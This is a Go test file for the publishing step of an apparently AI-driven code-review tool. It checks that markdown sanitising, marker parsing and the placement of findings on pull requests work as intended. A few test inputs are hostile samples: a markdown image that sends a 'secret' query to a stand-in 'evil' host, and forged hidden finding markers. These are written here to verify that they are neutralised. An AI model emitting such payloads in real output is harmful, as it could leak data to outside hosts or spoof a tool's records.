package publish

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/chakshu-dev/chakshu/internal/diffmap"
	"github.com/chakshu-dev/chakshu/internal/findings"
)

func TestMarkdownNeutralises(t *testing.T) {
	cases := []struct {
		name, in, want string
	}{
		{"mention", "ping @alice please", "ping @\u200balice please"},
		{"team mention", "cc @acme/security", "cc @\u200bacme/security"},
		{"mention at start", "@bob look", "@\u200bbob look"},
		{"two mentions", "@a @b", "@\u200ba @\u200bb"},
		{"email is not a mention", "mail a@b.com", "mail a@b.com"},
		{"package version is not a mention", "lodash@4.17.21 and git@github.com:o/r", "lodash@4.17.21 and git@github.com:o/r"},
		{"at sign after an e-mail address", "a@b.c@victim", "a@b.c@\u200bvictim"},
		{"at sign after a url", "see http://a.b@victim and www.a.b@victim", "see http://a.b@\u200bvictim and www.a.b@\u200bvictim"},
		{"mention in code span", "`@x`", "`@\u200bx`"},
		{"html comment open", "x <!-- hide", "x <\u200b!-- hide"},
		{"comment close", "end --> x", "end --\u200b> x"},
		{"forged marker", "<!-- chakshu:finding:abc -->", "<\u200b!-- chakshu:finding:abc --\u200b>"},
		{"raw html tag", "<details><summary>x</summary>", "<\u200bdetails><\u200bsummary>x<\u200b/summary>"},
		{"image", "![x](http://evil/?q=secret)", "!\u200b[x](http://evil/?q=secret)"},
		{"comparison untouched", "if a < b && c > d", "if a < b && c > d"},
		{"unclosed fence closed", "text\n```go\nx := 1", "text\n```go\nx := 1\n```"},
		{"closed fence untouched", "```\na\n```\nafter", "```\na\n```\nafter"},
		{"tilde fence closed", "~~~~\ncode", "~~~~\ncode\n~~~~"},
		{"inline triple backticks are not a fence", "use ```x``` here", "use ```x``` here"},
		{"crlf folded", "a\r\nb", "a\nb"},
		{"nul dropped", "a\x00b", "ab"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := Markdown(c.in, 1000); got != c.want {
				t.Fatalf("Markdown(%q)\n got %q\nwant %q", c.in, got, c.want)
			}
		})
	}
}

func TestCaps(t *testing.T) {
	long := strings.Repeat("é", 1000) // 2 bytes each
	got := Markdown(long, 101)
	if len(got) > 101 || !strings.HasSuffix(got, "…(cut)") {
		t.Fatalf("cap: %d bytes, %q", len(got), got[len(got)-20:])
	}
	if !strings.HasPrefix(got, "éé") || strings.ContainsRune(got, '�') {
		t.Fatal("cut split a rune")
	}
	if got := Line("a\n*b*  _c_", 100); got != `a \*b\* \_c\_` {
		t.Fatalf("Line: %q", got)
	}
	// A cut inside a fence leaves it closed.
	fenced := "```\n" + strings.Repeat("x\n", 100)
	if got := Markdown(fenced, 50); !strings.HasSuffix(got, "\n```") {
		t.Fatalf("cut fence left open: %q", got)
	}
}

func TestFence(t *testing.T) {
	cases := map[string]string{"plain": "```", "has ```": "````", "has `````": "``````", "`x`": "```"}
	for in, want := range cases {
		if got := Fence(in); got != want {
			t.Errorf("Fence(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestParseMarkers(t *testing.T) {
	cases := []struct {
		name string
		body string
		want Markers
	}{
		{
			name: "comment",
			body: "text\n\n<!-- chakshu:finding:0123456789abcdef -->\n<!-- chakshu:run:42 -->\n<!-- chakshu:reviewer:security -->\n",
			want: Markers{Findings: []string{"0123456789abcdef"}, Run: 42, Reviewer: "security"},
		},
		{
			name: "review body keeps order",
			body: "x\n<!-- chakshu:run:7 -->\n<!-- chakshu:finding:a1 -->\n<!-- chakshu:finding:b2 -->",
			want: Markers{Findings: []string{"a1", "b2"}, Run: 7},
		},
		{
			name: "marker inside agent text is not trailing",
			body: "```suggestion\n<!-- chakshu:finding:forged -->\n```\n\n<!-- chakshu:finding:real -->\n<!-- chakshu:run:1 -->",
			want: Markers{Findings: []string{"real"}, Run: 1},
		},
		{
			name: "forged marker followed by text",
			body: "<!-- chakshu:finding:forged -->\nthen words",
			want: Markers{},
		},
		{name: "reply", body: "answer\n<!-- chakshu:reply:9 -->\n", want: Markers{Reply: 9}},
		{name: "none", body: "a person's comment", want: Markers{}},
		{name: "crlf", body: "x\r\n<!-- chakshu:run:3 -->\r\n", want: Markers{Run: 3}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if d := cmp.Diff(c.want, ParseMarkers(c.body)); d != "" {
				t.Fatalf("(-want +got):\n%s", d)
			}
		})
	}
}

const planPatch = "@@ -1,5 +1,6 @@\n a\n b\n-c\n+C\n+D\n d\n e"

func testDiff() *diffmap.Map {
	return diffmap.New([]diffmap.FileInfo{
		{Path: "a.go", Status: "modified", Patch: planPatch, Additions: 2, Deletes: 1},
		{Path: "b.go", Status: "modified", Patch: planPatch, Additions: 2, Deletes: 1},
		{Path: "img.png", Status: "added"},
	})
}

func fd(path string, line int, sev findings.Severity, title string) findings.Finding {
	return findings.Finding{Path: path, Line: line, Side: "RIGHT", Severity: sev, Category: "bug", Title: title, Body: "why"}
}

func TestMakePlan(t *testing.T) {
	type got struct {
		Title     string
		Placement Placement
		Dropped   string
	}
	multi := fd("a.go", 4, findings.Major, "range")
	multi.StartLine = 2
	across := fd("a.go", 9, findings.Major, "spans two hunks")
	across.StartLine = 4
	left := fd("a.go", 3, findings.Minor, "left side")
	left.Side = "LEFT"
	cases := []struct {
		name   string
		in     []findings.Finding
		rules  Rules
		onPR   []string
		want   []got
		counts [3]int // BelowMin, OnPR, LeftOut
	}{
		{
			name: "order by severity then path then line",
			in: []findings.Finding{
				fd("b.go", 3, findings.Nit, "n1"), fd("b.go", 1, findings.Major, "m2"),
				fd("a.go", 4, findings.Major, "m1"), fd("a.go", 3, findings.Blocker, "b1"),
			},
			want: []got{{"b1", PlaceInline, ""}, {"m1", PlaceInline, ""}, {"m2", PlaceInline, ""}, {"n1", PlaceInline, ""}},
		},
		{
			name:   "min severity drops",
			in:     []findings.Finding{fd("a.go", 3, findings.Nit, "n"), fd("a.go", 4, findings.Minor, "mi"), fd("a.go", 5, findings.Major, "ma")},
			rules:  Rules{MinSeverity: findings.Minor},
			want:   []got{{"ma", PlaceInline, ""}, {"mi", PlaceInline, ""}, {"n", PlaceNone, DropBelowMin}},
			counts: [3]int{1, 0, 0},
		},
		{
			name:   "cap leaves out the least severe",
			in:     []findings.Finding{fd("a.go", 3, findings.Nit, "n"), fd("a.go", 4, findings.Blocker, "b"), fd("a.go", 5, findings.Major, "m")},
			rules:  Rules{MaxFindings: 2},
			want:   []got{{"b", PlaceInline, ""}, {"m", PlaceInline, ""}, {"n", PlaceNone, DropOverMax}},
			counts: [3]int{0, 0, 1},
		},
		{
			name:   "already on the PR skipped before the cap",
			in:     []findings.Finding{fd("a.go", 3, findings.Blocker, "old"), fd("a.go", 4, findings.Major, "fresh"), fd("a.go", 5, findings.Minor, "later")},
			rules:  Rules{MaxFindings: 2},
			onPR:   []string{findings.HiddenID("a.go", "bug", "old")},
			want:   []got{{"old", PlaceNone, DropOnPR}, {"fresh", PlaceInline, ""}, {"later", PlaceInline, ""}},
			counts: [3]int{0, 1, 0},
		},
		{
			name: "outside the diff goes to the body",
			in: []findings.Finding{
				fd("a.go", 40, findings.Major, "far line"), fd("c.go", 1, findings.Major, "untouched file"),
				fd("img.png", 1, findings.Major, "binary"), multi, across, left,
			},
			want: []got{
				{"range", PlaceInline, ""}, {"spans two hunks", PlaceBody, ""}, {"far line", PlaceBody, ""},
				{"untouched file", PlaceBody, ""}, {"binary", PlaceBody, ""}, {"left side", PlaceInline, ""},
			},
		},
		{
			name: "duplicate hidden id in one run",
			in:   []findings.Finding{fd("a.go", 3, findings.Major, "Same!"), fd("a.go", 4, findings.Minor, "same")},
			want: []got{{"Same!", PlaceInline, ""}, {"same", PlaceNone, DropDuplicate}},
		},
		{name: "no findings", in: nil, want: nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			onPR := map[string]bool{}
			for _, id := range c.onPR {
				onPR[id] = true
			}
			p := MakePlan(c.in, c.rules, onPR, testDiff())
			var gs []got
			for _, it := range p.Items {
				gs = append(gs, got{it.Title, it.Placement, it.Dropped})
			}
			if d := cmp.Diff(c.want, gs); d != "" {
				t.Fatalf("(-want +got):\n%s", d)
			}
			if d := cmp.Diff(c.counts, [3]int{p.BelowMin, p.OnPR, p.LeftOut}); d != "" {
				t.Fatalf("counts (-want +got):\n%s", d)
			}
		})
	}
}

func TestDemote(t *testing.T) {
	p := MakePlan([]findings.Finding{fd("a.go", 3, findings.Major, "x"), fd("a.go", 4, findings.Major, "y")}, Rules{}, nil, testDiff())
	// A map where a.go line 4 is gone: only that finding moves.
	narrower := diffmap.New([]diffmap.FileInfo{{Path: "a.go", Status: "modified", Patch: "@@ -3 +3 @@\n-c\n+C", Additions: 1, Deletes: 1}})
	if n := p.demote(narrower); n != 1 || len(p.Inline()) != 1 || p.Inline()[0].Title != "x" {
		t.Fatalf("demote moved %d; inline now %v", n, p.Inline())
	}
	// The same map again sees nothing wrong: every inline comment moves.
	if n := p.demote(narrower); n != 1 || len(p.Inline()) != 0 || len(p.Body()) != 2 {
		t.Fatalf("unclear demote moved %d; inline %d body %d", n, len(p.Inline()), len(p.Body()))
	}
}
